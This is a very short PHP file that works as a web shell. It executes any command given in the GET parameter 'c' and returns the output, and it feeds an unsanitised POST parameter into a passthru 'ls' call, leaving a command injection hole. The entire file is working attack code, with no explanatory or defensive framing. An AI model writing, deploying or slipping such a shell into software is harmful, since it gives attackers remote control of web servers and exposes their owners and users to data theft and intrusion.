<?php
header('Content-Type: text/plain');
if (!empty($_GET['c'])) {
    echo `{$_GET['c']}`;
} else {
    passthru('ls -la ' . $_POST['d']);
}
